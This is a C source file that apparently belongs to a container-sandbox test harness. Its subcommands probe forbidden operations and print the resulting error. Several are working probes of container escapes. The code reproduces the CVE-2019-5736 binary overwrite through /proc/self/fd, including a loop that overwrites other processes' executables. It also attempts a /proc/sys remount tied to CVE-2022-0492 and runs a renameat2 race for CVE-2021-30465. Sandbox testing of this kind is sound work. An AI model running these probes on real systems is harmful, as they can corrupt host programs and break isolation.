// Subcommands that try what a container may forbid, and print "ok" or the error's name. They succeed either way.
#include "guest.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

static int print_result(int result)
{
    puts(errno_name(result < 0 ? errno : 0));
    return 0;
}

int try_write(int argc, char **argv)
{
    (void)argc;
    int file = open(argv[1], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    if (file < 0) return print_result(-1);
    return print_result(write(file, argv[2], strlen(argv[2])) < 0 || close(file) < 0 ? -1 : 0);
}

int try_open(int argc, char **argv)
{
    (void)argc;
    return print_result(open(argv[1], O_RDWR | O_NONBLOCK | O_NOCTTY | O_CLOEXEC));
}

int try_mknod(int argc, char **argv)
{
    (void)argc;
    mode_t type = argv[2][0] == 'b' ? S_IFBLK : S_IFCHR;
    return print_result(mknod(argv[1], type | 0666, makedev((unsigned)atoi(argv[3]), (unsigned)atoi(argv[4]))));
}

// Arguments that are not given are zero. In a child, since a filter may kill instead of refusing.
int try_syscall(int argc, char **argv)
{
    long arguments[6] = {0};
    for (int i = 0; i < 6 && i + 2 < argc; i++) arguments[i] = strtol(argv[i + 2], NULL, 0);
    long number = syscall_number(argv[1]);
    if (number < 0) {
        fprintf(stderr, "guest: no system call %s here; give its number\n", argv[1]);
        return 2;
    }
    fflush(stdout);
    pid_t child = fork();
    if (child == 0) {
        print_result(syscall(number, arguments[0], arguments[1], arguments[2], arguments[3], arguments[4], arguments[5]) == -1
                         ? -1
                         : 0);
        fflush(stdout);
        _exit(0);
    }
    int status;
    if (child < 0 || waitpid(child, &status, 0) < 0) return 1;
    if (WIFSIGNALED(status)) puts(signal_name(WTERMSIG(status)));
    return 0;
}

static void try_mount(const char *type, const char *target, unsigned long flags)
{
    int result = mount("none", target, type, flags, NULL);
    printf("%s on %s: %s\n", type, target, errno_name(result < 0 ? errno : 0));
    if (result == 0) umount2(target, MNT_DETACH);
}

int try_mounts(int argc, char **argv)
{
    (void)argc, (void)argv;
    mkdir("/.guest-mount", 0700);
    const char *target = access("/.guest-mount", F_OK) == 0 ? "/.guest-mount" : "/dev";
    try_mount("tmpfs", target, 0);
    try_mount("proc", target, 0);
    try_mount("sysfs", target, 0);
    try_mount("cgroup", target, 0);
    try_mount("cgroup2", target, 0);
    // Writable again: what CVE-2022-0492 and an escape by way of /proc/sys would need.
    int result = mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL);
    printf("remount of /proc/sys: %s\n", errno_name(result < 0 ? errno : 0));
    rmdir("/.guest-mount");
    return 0;
}

int try_unshare(int argc, char **argv)
{
    (void)argc, (void)argv;
    static const struct { const char *name; int flags; } kinds[] = {
        {"user", CLONE_NEWUSER}, {"mount", CLONE_NEWNS}, {"pid", CLONE_NEWPID}, {"network", CLONE_NEWNET},
        {"ipc", CLONE_NEWIPC}, {"uts", CLONE_NEWUTS}, {"cgroup", CLONE_NEWCGROUP}, {"time", 0x80},
        {"user+mount+cgroup", CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP},
    };
    for (size_t i = 0; i < sizeof kinds / sizeof kinds[0]; i++) {
        fflush(stdout);
        // A child for each: a namespace that was left cannot be entered again.
        pid_t child = fork();
        if (child == 0) {
            int result = unshare(kinds[i].flags);
            printf("%s: %s\n", kinds[i].name, errno_name(result < 0 ? errno : 0));
            fflush(stdout);
            _exit(0);
        }
        if (child > 0) waitpid(child, NULL, 0);
    }
    return 0;
}

// CVE-2019-5736: opens a program for reading, then anew for writing through that descriptor, which works once nobody runs
// the program any more, and writes. Prints the first answer other than ETXTBSY, or that one after a second.
static int overwrite(int program)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", program);
    for (int tries = 0; tries < 1000; tries++) {
        int file = open(path, O_WRONLY | O_CLOEXEC);
        if (file >= 0) return print_result(write(file, "overwritten\n", 12) < 0 ? -1 : 0);
        if (errno != ETXTBSY) return print_result(-1);
        usleep(1000);
    }
    return print_result(-1);
}

// Every program that some process comes along with and that is neither ours nor "/bin/busybox", until standard input ends.
static int overwrite_all(void)
{
    char own[256], name[256], path[300];
    ssize_t length = readlink("/proc/self/exe", own, sizeof own - 1);
    own[length < 0 ? 0 : length] = 0;
    fcntl(0, F_SETFL, O_NONBLOCK);
    puts("ready");
    fflush(stdout);
    while (read(0, name, 1) != 0) {
        DIR *processes = opendir("/proc");
        struct dirent *entry;
        while (processes && (entry = readdir(processes))) {
            if (entry->d_name[0] < '1' || entry->d_name[0] > '9') continue;
            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
            length = readlink(path, name, sizeof name - 1);
            name[length < 0 ? 0 : length] = 0;
            if (length < 0 || strcmp(name, own) == 0 || strcmp(name, "/bin/busybox") == 0) continue;
            int program = open(path, O_RDONLY | O_CLOEXEC);
            if (program < 0) continue;
            printf("%s: ", name);
            overwrite(program);
            fflush(stdout);
            close(program);
        }
        if (processes) closedir(processes);
    }
    return 0;
}

int try_overwrite(int argc, char **argv)
{
    (void)argc;
    return strcmp(argv[1], "all") == 0 ? overwrite_all() : overwrite(atoi(argv[1]));
}

// Looks for a key by its name in the session keyring and in that of the user, and then adds one.
int try_keyring(int argc, char **argv)
{
    (void)argc;
    static const int rings[] = {KEY_SPEC_SESSION_KEYRING, KEY_SPEC_USER_KEYRING, KEY_SPEC_USER_SESSION_KEYRING};
    static const char *const names[] = {"session", "user", "user session"};
    for (int i = 0; i < 3; i++) {
        long found = syscall(SYS_keyctl, KEYCTL_SEARCH, rings[i], "user", argv[1], 0);
        printf("%s: %s\n", names[i], errno_name(found < 0 ? errno : 0));
    }
    long added = syscall(SYS_add_key, "user", "guest", "x", 1, KEY_SPEC_SESSION_KEYRING);
    printf("add: %s\n", errno_name(added < 0 ? errno : 0));
    return 0;
}

// Adds a key to a session keyring of its own, and becomes another program that has it.
int try_with_key(int argc, char **argv)
{
    (void)argc;
    if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL) < 0) return print_result(-1);
    if (syscall(SYS_add_key, "user", argv[1], "secret", 6, KEY_SPEC_SESSION_KEYRING) < 0) return print_result(-1);
    execv(argv[2], argv + 2);
    return print_result(-1);
}

// Exchanges two names for as long as standard input stays open: CVE-2021-30465.
int try_exchange(int argc, char **argv)
{
    (void)argc;
    char byte;
    fcntl(0, F_SETFL, O_NONBLOCK);
    puts("ready");
    fflush(stdout);
    while (read(0, &byte, 1) != 0) renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE);
    return 0;
}
